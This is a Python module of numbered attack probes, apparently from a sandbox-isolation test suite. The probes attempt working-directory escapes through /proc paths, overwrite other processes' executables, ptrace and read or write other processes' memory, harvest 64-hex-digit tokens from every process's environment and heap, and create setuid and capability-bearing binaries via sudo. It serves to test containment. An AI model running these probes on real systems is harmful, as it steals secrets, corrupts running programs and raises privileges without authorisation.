"""Attacks on other processes, on the runtime's program, and on what was inherited."""

import atexit
import ctypes
import errno
import os
import re
import shutil
import stat
import struct
import subprocess
import sys

from base import LIBC, attack, call, main

O_PATH = 0o10000000
TOKEN = re.compile(rb"[0-9a-f]{64}")


@attack("E05")
def working_folders(canary):
    """Every folder that a working directory could be by another name."""
    paths = [f"/proc/self/fd/{number}" for number in range(65)]
    paths += ["/proc/1/root", "/proc/1/cwd", "/proc/self/cwd/../..", "/proc/self/root/..", "/.."]

    def enter(path):
        os.chdir(path)
        return "escaped" if os.path.exists(canary.lstrip("/")) else "contained"

    return [(path, lambda path=path: enter(path)) for path in paths]


@attack("E06")
def inherited():
    """What a program holds before it opens anything: each descriptor with its target."""
    # The listing itself opens one; it is closed when it is looked at.
    numbers = [int(name) for name in os.listdir("/proc/self/fd")]
    rows = []
    for number in sorted(numbers):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            kind = stat.S_IFMT(os.fstat(number).st_mode)
        except OSError:
            continue
        word = "folder" if kind == stat.S_IFDIR else target.split(":")[0]
        rows.append((str(number), lambda word=word: word))
    return rows


@attack("E07")
def runtime_program(path, *started):
    """Holds a program that runs by its path-only handle, and writes to it once it has ended."""

    if path == "own":
        path = shutil.copy("/bin/sleep", f"/tmp/own-{os.getpid()}")

    def reopen():
        victim = subprocess.Popen([path, *started], stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL)
        try:
            handle = os.open(path, O_PATH)
            victim.kill()
            victim.wait()
            overwrite(f"/proc/self/fd/{handle}")
        finally:
            victim.kill()

    def first():
        overwrite("/proc/1/exe")

    def every():
        reached = []
        for name in os.listdir("/proc"):
            if not name.isdigit() or os.stat(f"/proc/{name}").st_uid == os.getuid() == 1000:
                continue
            if int(name) in (os.getpid(), os.getppid()):
                continue
            try:
                target = os.readlink(f"/proc/{name}/exe")
                if target.startswith("/run/"):
                    overwrite(f"/proc/{name}/exe")
                    reached.append(name)
            except OSError:
                continue
        return "ok" if reached else "none"

    return [("reopen", reopen), ("first", first), ("every", every)]


def overwrite(path):
    handle = os.open(path, os.O_WRONLY)
    os.write(handle, b"#!/bin/false\n")
    os.close(handle)


@attack("E23")
def trace(*victims):
    """On the processes that are given; without one, on a child of its own."""
    if not victims:
        child = subprocess.Popen(["sleep", "30"], stdout=subprocess.DEVNULL)
        atexit.register(child.kill)
        victims = (str(child.pid),)
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    def move(name, pid):
        address = ctypes.addressof(buffer)
        local, remote = Vector(address, 8), Vector(address, 8)
        call(name, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)

    def steal(pid):
        call("pidfd_getfd", call("pidfd_open", pid, 0), 0, 0)

    rows = []
    for word in victims:
        pid = int(word)
        label = "victim" if len(victims) == 1 else f"pid {pid}"
        rows += [
            (f"{label} attach", lambda pid=pid: call("ptrace", 16, pid, 0, 0)),
            (f"{label} seize", lambda pid=pid: call("ptrace", 0x4206, pid, 0, 0)),
            (f"{label} readv", lambda pid=pid: reached(move, "process_vm_readv", pid)),
            (f"{label} writev", lambda pid=pid: reached(move, "process_vm_writev", pid)),
            (f"{label} getfd", lambda pid=pid: steal(pid)),
            (f"{label} mem", lambda pid=pid: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))),
        ]
    return rows


def reached(action, *arguments):
    """A bad address is told only to whom the process is open."""
    try:
        action(*arguments)
    except OSError as error:
        if error.errno != errno.EFAULT:
            raise


@attack("E24")
def secrets(*pids):
    """Every run of 64 hexadecimal digits that any process shows, and what refuses to be read."""

    def hunt():
        found = set()
        for name in (name for name in os.listdir("/proc") if name.isdigit()):
            for part in ("environ", "cmdline", "maps"):
                found.update(TOKEN.findall(read(f"/proc/{name}/{part}")))
            found.update(TOKEN.findall(memory_of(name)))
        return " ".join(sorted(word.decode() for word in found)) or "none"

    rows = [("tokens", hunt)]
    for pid in pids:
        rows += [(f"{part} of {pid}", lambda pid=pid, part=part: expose(f"/proc/{pid}/{part}"))
                 for part in ("environ", "mem", "maps", "auxv", "io", "root/etc", "cwd/etc", "fd")]
    return rows


def expose(path):
    if os.path.isdir(path) or path.endswith("fd"):
        os.listdir(path)
    else:
        os.close(os.open(path, os.O_RDONLY))


def read(path):
    try:
        with open(path, "rb") as stream:
            return stream.read(1 << 20)
    except OSError:
        return b""


def memory_of(name):
    """The heap and the stack, where the kernel lets it be read."""
    text = b""
    for line in read(f"/proc/{name}/maps").decode(errors="replace").splitlines():
        if not line.endswith(("[heap]", "[stack]")):
            continue
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        try:
            with open(f"/proc/{name}/mem", "rb") as stream:
                stream.seek(start)
                text += stream.read(end - start)
        except OSError:
            continue
    return text


@attack("E30")
def raised():
    """Programs with a set-user-id bit or file capabilities, started by an ordinary user."""
    if os.geteuid() != 0:
        os.execvp("sudo", ["sudo", "-n", sys.executable, "-B", *sys.argv])
    show = "import os; print(os.geteuid(), open('/proc/self/uid_map').read().split()[1])"

    def started(path):
        done = subprocess.run([path, "-c", show], capture_output=True, text=True, check=False,
                              user=1000, group=1000, extra_groups=[], cwd="/")
        return done.stdout.strip() or f"exit {done.returncode}: {done.stderr[-80:]}"

    def copy_of(name):
        path = shutil.copy(os.path.realpath(sys.executable), f"/opt/{name}")
        os.chmod(path, 0o755)
        return path

    def by_bit():
        path = copy_of("raised")
        os.chmod(path, 0o4755)
        return started(path)

    def by_attribute(number):
        # Version 2: effective, one capability permitted.
        path = copy_of(f"able{number}")
        value = struct.pack("<5I", 0x02000001, 1 << number, 0, 0, 0)
        os.setxattr(path, "security.capability", value)
        shown = "print([line for line in open('/proc/self/status') if 'CapEff' in line][0])"
        try:
            return subprocess.run([path, "-c", shown], capture_output=True, text=True, check=True,
                                  user=1000, group=1000, extra_groups=[]).stdout.split()[-1]
        except PermissionError:
            return "EPERM"

    return [("set-user-id", by_bit), ("admin", lambda: by_attribute(21)),
            ("bind service", lambda: by_attribute(10))]


if __name__ == "__main__":
    main()
